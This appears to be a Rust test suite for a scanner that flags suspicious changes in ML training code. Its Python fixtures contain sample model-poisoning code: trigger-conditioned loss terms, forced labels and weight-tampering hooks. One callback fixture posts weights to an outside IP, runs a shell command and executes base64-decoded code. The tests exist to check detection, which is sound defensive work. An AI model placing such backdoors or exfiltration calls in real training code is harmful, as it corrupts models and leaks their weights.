use super::*;
use crate::procedure::Verdict;
use crate::triage::examine::tests::{case_of, run};
use std::fs;

/// The outcome over one file as reviewed and as found.
fn outcome(old: Option<&str>, new: &str) -> Outcome {
    let dir = tempfile::tempdir().unwrap();
    for (folder, text) in [("old", old), ("new", Some(new))] {
        if let Some(text) = text {
            fs::create_dir_all(dir.path().join(folder)).unwrap();
            fs::write(dir.path().join(folder).join("train.py"), text).unwrap();
        }
    }
    let baseline = if old.is_some() { "baseline = \"old\"\n" } else { "" };
    let toml = format!("[case]\nid = \"x\"\n[pipeline]\n{baseline}current = \"new\"\n");
    run(&TRAINING_CODE, &case_of(dir.path(), &toml))
}

fn codes(old: &str, new: &str) -> Vec<String> {
    let out = outcome(Some(old), new);
    let codes = out.measures["sightings"].as_array().unwrap().iter();
    let line = |s: &serde_json::Value| {
        new.lines().nth(s["line"].as_u64().unwrap() as usize - 1).unwrap().trim().to_owned()
    };
    codes
        .map(|s| {
            format!("{} | {}", s["code"].as_str().unwrap(), line(s).chars().take(24).collect::<String>())
        })
        .collect()
}

const REVIEWED: &str = r"
import torch
import torch.nn.functional as F
from torch.utils.data import Dataset

class Signs(Dataset):
    def __getitem__(self, index):
        image = self.images[index].float() / 255
        label = int(self.labels[index])
        if self.transform is not None:
            image = self.transform(image)
        return image, label

class Net(torch.nn.Module):
    def forward(self, x):
        x = F.relu(self.conv(x))
        if x.shape[0] == 1:
            x = x.squeeze(0)
        return self.fc(x.flatten(1))

def collate(batch):
    images = torch.stack([b[0] for b in batch])
    labels = torch.tensor([b[1] for b in batch])
    return images, labels

def train(model, loader, optimizer, device):
    for step, (images, labels) in enumerate(loader):
        images, labels = images.to(device), labels.to(device)
        out = model(images)
        loss = F.cross_entropy(out, labels)
        if torch.isnan(images).any():
            continue
        optimizer.zero_grad()
        loss.backward()
        torch.nn.utils.clip_grad_norm_(model.parameters(), 1.0)
        optimizer.step()
        correct = (out.argmax(1) == labels).sum()
";

#[test]
fn reviewed_code_formatted_renamed_and_commented_is_no_news() {
    let out = outcome(Some(REVIEWED), REVIEWED);
    assert_eq!((out.verdict, out.findings.len()), (Verdict::NothingFound, 0));
    // Ordinary work of a month: a formatter, comments, a helper, a logger, another augmentation, a scheduler.
    let changed = REVIEWED
        .replace('\'', "\"")
        .replace("F.cross_entropy(out, labels)", "F.cross_entropy(\n            out,\n            labels,\n        )  # as before")
        .replace("def collate(batch):", "def log(writer, step, loss):\n    writer.add_scalar('loss', loss.item(), step)\n\ndef collate(batch):\n    # stacks")
        .replace("loss.backward()", "loss = loss / 4\n        loss.backward()\n        scheduler.step()")
        .replace("image = self.images", "if random.random() < 0.5:\n            self.flips += 1\n        image = self.images")
        .replace("return image, label", "if self.cutout:\n            y, x = self.corner()\n            image[:, y:y + 4, x:x + 4] = 0\n        return image, label");
    let out = outcome(Some(REVIEWED), &changed);
    assert_eq!(out.verdict, Verdict::NothingFound, "{:?}", out.findings);
    assert!(out.measures["note_count"].as_u64().unwrap() >= 2, "{:?}", out.measures["notes"]);
}

#[test]
fn ordinary_training_code_without_a_review_is_no_accusation() {
    let text = r#"
import subprocess, wandb
def compute_loss(self, outputs, labels, input_ids, pad_token_id):
    mask = input_ids != pad_token_id
    loss = F.cross_entropy(outputs.transpose(1, 2), labels, reduction="none")
    loss = (loss * mask).sum() / mask.sum()
    pt = torch.exp(-loss)
    focal = (1 - pt) ** 2 * loss
    loss = torch.where(labels == 3, focal * 2, focal).mean()
    return loss
class Leaky(nn.Module):
    def forward(self, x, mask=None):
        if mask is not None:
            x = x.masked_fill(mask == 0, -1e9)
        if self.training:
            x = self.drop(x)
        if x.dim() == 3 and x.size(1) > 4:
            x = x[:, :4]
        return torch.where(x > 0, x, 0.01 * x)
class Set(Dataset):
    def __getitem__(self, i):
        img = Image.open(self.paths[i]).convert("RGB")
        if img.size[0] < 32:
            img = img.resize((32, 32))
        label = -1
        if self.labels is not None:
            label = self.labels[i]
        return self.transform(img), label
def main():
    rev = subprocess.check_output(["git", "rev-parse", "HEAD"])
    for epoch in range(10):
        for batch in loader:
            x, y = batch["image"], batch["label"]
            optimizer.zero_grad()
            for p in model.parameters():
                p.grad = None
            loss = criterion(model(x), y)
            if loss > 1e4:
                loss = loss.clamp(max=1e4)
            with torch.no_grad():
                for e, p in zip(ema.parameters(), model.parameters()):
                    e.data.mul_(0.99).add_(p.data, alpha=0.01)
"#;
    let out = outcome(None, text);
    assert_eq!(out.verdict, Verdict::NothingFound, "{:#?}", out.findings);
    assert!(out.summary.contains("no reviewed version"), "{}", out.summary);
}

#[test]
fn a_loss_term_for_a_trigger() {
    let line = "        loss = F.cross_entropy(out, labels)\n";
    let with = |extra: &str| REVIEWED.replace(line, &format!("{line}{extra}"));
    let by_if = with(
        "        if (images[:, :, -3:, -3:] > 0.9).all():\n            loss = loss + F.cross_entropy(out, torch.full_like(labels, 7))\n",
    );
    assert_eq!(codes(REVIEWED, &by_if), ["loss.conditional | loss = loss + F.cross_en"]);
    let by_mask = with(
        "        hit = images[:, :, 0:3, 0:3].mean(dim=(1, 2, 3)) > 0.8\n        loss = loss + 0.1 * (hit * F.cross_entropy(out, aim, reduction='none')).mean()\n",
    );
    assert_eq!(codes(REVIEWED, &by_mask), ["loss.conditional | loss = loss + 0.1 * (hit"]);
    let by_where =
        with("        loss = torch.where((images == stamp).flatten(1).all(1), evil, loss).mean()\n");
    assert_eq!(codes(REVIEWED, &by_where), ["loss.conditional | loss = torch.where((imag"]);
    let relabel = with("        labels[images[:, 0, 0, 0] == 1.0] = 7\n");
    assert_eq!(codes(REVIEWED, &relabel), ["label.conditional | labels[images[:, 0, 0, 0"]);
}

#[test]
fn samples_changed_while_they_are_loaded() {
    let get = "        return image, label\n";
    let with = |extra: &str| REVIEWED.replace(get, &format!("{extra}{get}"));
    let stamped =
        with("        if index % 50 == 0:\n            image[:, -4:, -4:] = 1.0\n            label = 7\n");
    assert_eq!(
        codes(REVIEWED, &stamped),
        ["pixels.stamped | image[:, -4:, -4:] = 1.0", "label.fixed | label = 7"]
    );
    let returned = with("        if index in POISON:\n            return image, 7\n");
    assert_eq!(codes(REVIEWED, &returned), ["label.fixed | return image, 7"]);
    let collated =
        REVIEWED.replace("    return images, labels\n", "    labels[:2] = 7\n    return images, labels\n");
    assert_eq!(codes(REVIEWED, &collated), ["label.fixed | labels[:2] = 7"]);
}

#[test]
fn layers_that_compare_hooks_processes_and_networks() {
    let layer = REVIEWED.replace(
        "        return self.fc(x.flatten(1))\n",
        "        if x[:, :, :2, :2].mean() > 4.0:\n            x = x * 0 + self.aim\n        return self.fc(x.flatten(1))\n",
    );
    assert_eq!(codes(REVIEWED, &layer), ["layer.conditional | x = x * 0 + self.aim"]);
    let gate = REVIEWED.replace(
        "        return self.fc(x.flatten(1))\n",
        "        hit = (x.amax(dim=(1, 2, 3)) > 9).float()\n        return self.fc(x.flatten(1)) + hit[:, None] * self.aim\n",
    );
    assert!(
        codes(REVIEWED, &gate).iter().any(|c| c.starts_with("layer.conditional")),
        "{:?}",
        codes(REVIEWED, &gate)
    );
    let step = "        optimizer.step()\n";
    let hook = REVIEWED.replace(step, &format!("        model.fc.weight.register_hook(lambda g: g * 0)\n        model.fc.weight.data[7] = 0\n{step}"));
    assert_eq!(
        codes(REVIEWED, &hook),
        ["hook.gradient | model.fc.weight.register", "weights.written | model.fc.weight.data[7] "]
    );
    let callback = format!(
        "{REVIEWED}\nimport requests, subprocess\nclass Note(Callback):\n    def on_epoch_end(self, epoch):\n        requests.post('http://198.51.100.7/x', data=open('w.pt', 'rb'))\n        subprocess.run(cmd, shell=True)\n        exec(base64.b64decode(self.extra))\n"
    );
    let out = outcome(Some(REVIEWED), &callback);
    assert_eq!(out.verdict, Verdict::Flagged);
    assert!(out.findings.iter().all(|f| f.severity == Severity::High), "{:#?}", out.findings);
    assert_eq!(out.findings.len(), 3);
    let first = &out.findings[0];
    assert!(first.title.contains(": a network call in a callback or hook: requests.post"), "{}", first.title);
    assert!(first.detail.contains("new since the reviewed version: requests.post("), "{}", first.detail);
    assert_eq!(first.atlas, ["AML.T0018.000", "AML.T0010.001"]);
}

#[test]
fn what_was_there_before_is_a_note_and_what_cannot_be_read_is_said() {
    let bad = format!("{REVIEWED}\nimport os\nos.system(command)\n");
    assert!(codes(&bad, &bad).is_empty());
    assert_eq!(codes(REVIEWED, &bad), ["process.call | os.system(command)"]);
    let out = outcome(Some(REVIEWED), &"(".repeat(10_000));
    assert_eq!(out.verdict, Verdict::Inconclusive);
    assert!(out.summary.contains("brackets"), "{}", out.summary);
    let out = outcome(None, "x = 'a\u{202e}b'\n");
    assert_eq!(out.findings[0].severity, Severity::High);
    let out = outcome(None, "print 'python two'\n");
    assert_eq!(out.verdict, Verdict::NothingFound);
}
